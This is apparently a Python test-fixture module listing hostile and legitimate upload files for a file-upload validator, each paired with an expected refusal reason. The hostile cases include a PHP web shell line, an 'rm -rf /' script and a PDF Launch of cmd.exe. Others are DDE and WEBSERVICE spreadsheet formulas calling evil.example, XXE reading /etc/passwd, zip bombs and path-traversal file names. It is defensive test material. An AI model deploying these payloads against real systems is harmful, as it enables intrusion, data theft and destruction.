"""The corpus: what hurts, with the word of the reason that it is refused for; and what is in order.

Each hostile file is one that some reader would open, run, fetch for, unpack without end, or take
for something else than its name says.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from tests.uploads.files import (
    CATALOG,
    SHEET,
    formula,
    jpeg,
    kml,
    object_stream,
    opening,
    overlapping,
    part,
    pdf,
    png,
    quoted_overlap,
    related,
    repacked,
    stream,
    workbook,
)

Made = Callable[[], bytes]
MEGABYTE = 1_000_000

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
LAUGHS = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def zipped(**parts: bytes) -> bytes:
    """An archive that is no workbook."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def sheet_with(before: bytes) -> bytes:
    """A workbook whose sheet begins with a document type."""
    made = part(workbook(), SHEET)
    return repacked({SHEET: before + made[made.index(b"<worksheet"):]})


def typed(kind: bytes) -> bytes:
    """A workbook whose main part is of another content type."""
    name = "[Content_Types].xml"
    plain = b"spreadsheetml.sheet.main+xml"
    return repacked({name: part(workbook(), name).replace(plain, kind)})


def lying() -> bytes:
    """The index says ten bytes, the part unpacks to a million."""
    content = repacked({"xl/junk.bin": bytes(MEGABYTE)})
    return content.replace(MEGABYTE.to_bytes(4, "little"), (10).to_bytes(4, "little"))


def appended() -> bytes:
    """A workbook before which a program stands: unpackers read it from its end."""
    return workbook().replace(b"PK\x03\x04", b"PK\x03\x04", 1) + b"MZ" + bytes(200)


def gap() -> bytes:
    """Bytes between two parts that no index names."""
    content = workbook()
    index = content.index(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    moved = (index + 600).to_bytes(4, "little")
    return content[:index] + b"#!/bin/sh\n" * 60 + content[index : end + 16] + moved + content[
        end + 20 :]


PROGRAMS: list[tuple[str, str, Made, str]] = [
    ("elf", "a.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(60), "a Linux program"),
    ("pe", "a.png", lambda: b"MZ\x90\x00" + bytes(60), "a Windows program"),
    ("mach-o", "a.jpg", lambda: b"\xcf\xfa\xed\xfe" + bytes(60), "a macOS program"),
    ("java", "a.pdf", lambda: b"\xca\xfe\xba\xbe" + bytes(60), "program"),
    ("shebang", "a.csv", lambda: b"#!/bin/sh\nrm -rf /\n", "a script"),
    ("php", "a.csv", lambda: b"<?php system($_GET['c']); ?>", "a script"),
    ("shortcut", "a.pdf", lambda: b"L\0\0\0\1\x14\2\0" + bytes(60), "a Windows shortcut"),
    ("html as pdf", "a.pdf", lambda: HTML, "an HTML page"),
    ("html as csv", "a.csv", lambda: b"\n \xef\xbb\xbf".strip() + HTML, "an HTML page"),
    ("svg as png", "a.png", lambda: SVG, "an SVG drawing"),
    ("svg as jpg", "a.jpg", lambda: b"<!-- x -->" + SVG[21:], "an SVG drawing"),
    ("rar as pdf", "a.pdf", lambda: b"Rar!\x1a\x07\x00" + bytes(60), "an archive"),
    ("exe", "setup.exe", lambda: b"MZ\x90\x00", "not accepted"),
    ("svg", "drawing.svg", lambda: SVG, "not accepted"),
    ("html", "page.html", lambda: HTML, "not accepted"),
]
PAPERS: list[tuple[str, str, Made, str]] = [
    ("late pdf", "a.pdf", lambda: b"GIF89a" + bytes(20) + pdf(), "not one"),
    ("pdf in pdf's first line", "a.pdf", lambda: b"%PDF-1.7<script>\n" + pdf(), "begin as one"),
    ("pdf and zip", "a.pdf", lambda: pdf() + zipped(a=b"b"), "Bytes follow"),
    ("pdf and zip in its comment", "a.pdf",
     lambda: pdf() + zipped(a=b"b") + b"startxref 0 %%EOF", "archive"),
    ("pdf and html", "a.pdf", lambda: pdf() + HTML, "Bytes follow"),
    ("pdf that sniffs as html", "a.pdf",
     lambda: pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script >"), "web page"),
    ("torn pdf", "a.pdf", lambda: pdf()[:-30], "cut off"),
    ("pdf script", "a.pdf", lambda: pdf(JS), "scripts"),
    ("pdf script, escaped", "a.pdf", lambda: pdf(JS.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
     "scripts"),
    ("pdf script, packed", "a.pdf", lambda: pdf(object_stream(JS)), "scripts"),
    ("pdf script, packed and escaped", "a.pdf",
     lambda: pdf(object_stream(JS.replace(b"/JavaScript", b"/#4aavaScript"))), "scripts"),
    ("pdf script, packed under another type", "a.pdf",
     lambda: pdf(object_stream(b"7", JS, said=b"/Type 9 0 R")), "scripts"),
    ("pdf script, packed behind a comment", "a.pdf",
     lambda: pdf(stream(b"%x\n20 0 " + JS, b"/Type /Ob#6aStm /N 1 /First 8")), "scripts"),
    ("pdf objects packed twice", "a.pdf",
     lambda: pdf(b"<< /Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode] >>\n"
                 b"stream\n789c>\nendstream"), "not read here"),
    ("pdf on opening: a script", "a.pdf", lambda: opening(JS), "scripts"),
    ("pdf on opening: an address", "a.pdf",
     lambda: opening(b"<< /S /URI /URI (http://evil.example) >>"), "when it is opened"),
    ("pdf on opening: an address by reference", "a.pdf",
     lambda: pdf(b"<< /S /URI /URI (http://evil.example) >>",
                 catalog=CATALOG[:-2] + b"/OpenAction 4 0 R >>"), "when it is opened"),
    ("pdf on opening: nobody knows", "a.pdf", lambda: opening(b"99 0 R"), "when it is opened"),
    ("pdf on opening, escaped", "a.pdf",
     lambda: pdf(catalog=CATALOG[:-2] + b"/Open#41ction << /S /URI >> >>"), "when it is opened"),
    ("pdf launch", "a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "another program"),
    ("pdf with a file", "a.pdf", lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")), "other files"),
    ("pdf xfa", "a.pdf", lambda: pdf(b"<< /XFA 5 0 R >>"), "XFA"),
    ("pdf encrypted", "a.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), "encrypted"),
    ("pdf sends a form", "a.pdf", lambda: pdf(b"<< /S /SubmitForm >>"), "to an address"),
    ("pdf remote", "a.pdf", lambda: pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>"), "other files"),
    ("pdf film", "a.pdf", lambda: pdf(b"<< /Subtype /RichMedia >>"), "multimedia"),
    ("pdf bomb", "a.pdf",
     lambda: pdf(stream(b"20 0 << " + b" " * 70 * MEGABYTE, b"/Type /ObjStm /N 1 /First 5")),
     "more than 64 MB"),
    ("pdf of streams alone", "a.pdf", lambda: pdf(b"stream\n" * 100_010), "too many parts"),
    ("pdf of escapes alone", "a.pdf", lambda: pdf(b"/#41" * 100_010), "too many parts"),
]
BOOKS: list[tuple[str, str, Made, str]] = [
    ("macros by part", "a.xlsx", lambda: repacked({"xl/vbaProject.bin": b"x"}), "macros"),
    ("macros by type", "a.xlsx",
     lambda: typed(b"sheet.macroEnabled.main+xml"), "macros"),
    ("macros by name", "a.xlsm", workbook, "macros"),
    ("excel 4 macros", "a.xlsx", lambda: repacked({"xl/macrosheets/s.xml": b"<a/>"}), "macros"),
    ("auto open", "a.xlsx", lambda: repacked({"xl/workbook.xml": part(
        workbook(), "xl/workbook.xml").replace(b"<definedNames />", b"<definedNames/>").replace(
            b"<definedNames/>", b'<definedNames><definedName name="Auto_Open">A!$A$1</definedName>'
            b"</definedNames>")}), "macros"),
    ("ole object", "a.xlsx", lambda: repacked({"xl/embeddings/o.bin": b"x"}), "embedded"),
    ("ole by its bytes", "a.xlsx",
     lambda: repacked({"xl/media/image1.png": OLE}), "embedded"),
    ("nested archive", "a.xlsx",
     lambda: repacked({"xl/media/image1.png": zipped(a=b"b")}), "embedded"),
    ("program as picture", "a.xlsx",
     lambda: repacked({"xl/media/image1.png": b"\x7fELF" + bytes(9)}), "embedded"),
    ("external link", "a.xlsx",
     lambda: repacked({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "links to other files"),
    ("external picture", "a.xlsx", lambda: related("image", "http://evil.example/p.png"),
     "links to other files"),
    ("link to a file", "a.xlsx", lambda: related("hyperlink", "file:///c:/x.exe"),
     "links to other files"),
    ("link to a share", "a.xlsx", lambda: related("hyperlink", "\\\\evil\\share"),
     "links to other files"),
    ("data connection", "a.xlsx", lambda: repacked({"xl/connections.xml": b"<a/>"}),
     "links to other files"),
    ("dde", "a.xlsx", lambda: formula("cmd|'/C calc'!A0"), "calls another program"),
    ("dde, escaped", "a.xlsx", lambda: formula("cmd&#x7C;'/C calc'!A0"), "calls another program"),
    ("webservice", "a.xlsx",
     lambda: formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;B2)'), "calls another program"),
    ("entities", "a.xlsx", lambda: sheet_with(LAUGHS), "document types"),
    ("external entity", "a.xlsx", lambda: sheet_with(OUTSIDE), "document types"),
    ("entities in utf-16", "a.xlsx", lambda: repacked({SHEET: (
        '<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS.decode() + "<w>&b;</w>"
    ).encode("utf-16")}), "document types"),
    ("not xml", "a.xlsx", lambda: repacked({SHEET: b"<worksheet><sheetData>"}), "damaged"),
    ("no workbook", "a.xlsx", lambda: zipped(a=b"b"), "not an XLSX"),
    ("zip bomb", "a.xlsx", lambda: repacked({"xl/junk.bin": bytes(30 * MEGABYTE)}), "100 times"),
    ("bomb with a lying index", "a.xlsx", lying, "index states"),
    ("overlapping parts", "a.xlsx", overlapping, "overlap"),
    ("one part inside another", "a.xlsx", quoted_overlap, "overlap"),
    ("many parts", "a.xlsx",
     lambda: repacked({f"xl/{n}.xml": b"" for n in range(2_001)}), "at most 2000"),
    ("path upwards", "a.xlsx", lambda: repacked({"xl/../../etc/cron.d/x": b"x"}), "outside"),
    ("absolute path", "a.xlsx", lambda: repacked({"/etc/passwd": b"x"}), "outside"),
    ("bytes after it", "a.xlsx", appended, "Bytes follow"),
    ("bytes before it", "a.xlsx", lambda: b"MZ" + bytes(90) + workbook(), "not an XLSX"),
    ("bytes between its parts", "a.xlsx", gap, "belong to no part"),
    ("torn workbook", "a.xlsx", lambda: workbook()[:-400], "damaged"),
    ("old workbook", "a.xlsx", lambda: OLE + bytes(600), "password"),
]
OTHERS: list[tuple[str, str, Made, str]] = [
    ("image bomb", "a.png", lambda: png(50_000, 50_000), "50,000 × 50,000"),
    ("image bomb, jpeg", "a.jpg", lambda: jpeg(50_000, 50_000), "50,000 × 50,000"),
    ("wide image", "a.png", lambda: png(9_000, 9_000), "million"),
    ("torn png", "a.png", lambda: png()[:-14], "cut off"),
    ("altered png", "a.png", lambda: png().replace(b"\x08\0\0\0\0", b"\x08\2\0\0\0"), "damaged"),
    ("torn jpeg", "a.jpeg", lambda: jpeg()[:-2], "cut off"),
    ("png and zip", "a.png", lambda: png() + zipped(a=b"b"), "Bytes follow"),
    ("jpeg and php", "a.jpg", lambda: jpeg() + b"<?php system(1);", "Bytes follow"),
    ("pdf as png", "a.png", pdf, "it is a PDF"),
    ("kmz", "a.kmz", lambda: zipped(doc=kml()), "KMZ"),
    ("kmz as kml", "a.kml", lambda: zipped(doc=kml()), "KMZ"),
    ("kml entities", "a.kml", lambda: kml(before=LAUGHS), "document types"),
    ("kml external entity", "a.kml", lambda: kml(before=OUTSIDE), "document types"),
    ("kml that fetches", "a.kml",
     lambda: kml(b"<NetworkLink><Link><href>http://evil.example</href></Link></NetworkLink>"),
     "fetches"),
    ("kml with a script", "a.kml",
     lambda: kml(b"<description><![CDATA[<script>alert(1)</script>]]></description>"), "script"),
    ("kml with a file", "a.kml", lambda: kml(b"<href>file:///etc/passwd</href>"), "points at"),
    ("torn kml", "a.kml", lambda: kml()[:-20], "well-formed"),
    ("xml that is no kml", "a.kml", lambda: b"<gpx/>", "not one"),
    ("utf-16 csv", "a.csv", lambda: "a,b\n".encode("utf-16"), "UTF-16"),
    ("binary csv", "a.csv", lambda: b"a,b\0\n", "binary"),
    ("empty", "a.pdf", lambda: b"", "empty"),
    ("blank", "a.csv", lambda: b" \r\n\0", "empty"),
]
NAMES: list[tuple[str, str, Made, str]] = [
    ("path", "../../etc/passwd.csv", lambda: b"a,b\n", "path"),
    ("windows path", "c:\\x\\a.csv", lambda: b"a,b\n", "path"),
    ("nul", "a.csv\0.exe", lambda: b"a,b\n", "invisible"),
    ("right to left", "a\u202egpj.csv", lambda: b"a,b\n", "direction"),
    ("zero width", "a\u200b.csv", lambda: b"a,b\n", "invisible"),
    ("300 characters", "a" * 296 + ".csv", lambda: b"a,b\n", "300 characters"),
    ("device", "con.csv", lambda: b"a,b\n", "device"),
    ("device with more", "LPT1.report.pdf", pdf, "device"),
    ("double ending", "report.exe.pdf", pdf, "hides the ending"),
    ("double ending, blanks", "report.scr      .pdf", pdf, "hides the ending"),
    ("ending last", "report.pdf.exe", pdf, "not accepted"),
    ("no ending", "report", pdf, "not accepted"),
    ("trailing dot", "report.pdf.", pdf, "not accepted"),
    ("no name", " ", pdf, "no name"),
]
HOSTILE = PROGRAMS + PAPERS + BOOKS + OTHERS + NAMES

FORMULAS = b'=cmd|"/C calc"!A0,+1+1,-2+3,@SUM(A1)\n'
LEGITIMATE: list[tuple[str, str, Made, str]] = [
    ("pdf", "permit.pdf", pdf, "application/pdf"),
    ("pdf with packed objects", "permit.PDF",
     lambda: pdf(object_stream(b"<< /Type /Annot /A << /S /URI /URI (https://a.example) >> >>")),
     "application/pdf"),
    ("pdf with a page's drawing", "map.pdf",
     lambda: pdf(stream(b"1 0 0 1 72 720 cm BT (a /JavaScript) Tj ET")), "application/pdf"),
    ("pdf that opens at a page", "a.pdf", lambda: opening(b"[3 0 R /Fit]"), "application/pdf"),
    ("pdf that goes to a page", "a.pdf", lambda: opening(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
     "application/pdf"),
    ("pdf that goes to a page by reference", "a.pdf",
     lambda: pdf(object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
                 catalog=CATALOG[:-2] + b"/OpenAction 20 0 R >>"), "application/pdf"),
    ("pdf saved twice", "a.pdf", lambda: pdf() + pdf()[15:], "application/pdf"),
    ("workbook", "readings.xlsx", workbook,
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("workbook with a picture", "a.xlsx", lambda: repacked({"xl/media/image1.png": png()}),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("workbook with a pipe in a text", "a.xlsx", lambda: formula('"a|b"&amp;B2'),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("csv", "readings.v1.2.csv", lambda: "day,MWh ö\n2026-01-01,1\n".encode("cp1252"), "text/csv"),
    ("csv with formulas", "cells.csv", lambda: FORMULAS, "text/csv"),
    ("png", "site.png", png, "image/png"),
    ("jpeg", "site.jpeg", jpeg, "image/jpeg"),
    ("two jpegs in one", "site.jpg", lambda: jpeg() + jpeg() + bytes(40), "image/jpeg"),
    ("kml", "boundary.kml", lambda: kml(b"<href>http://maps.example/icon.png</href>"),
     "application/vnd.google-earth.kml+xml"),
    ("name in persian", "گزارش\u200cها.pdf", pdf, "application/pdf"),
]
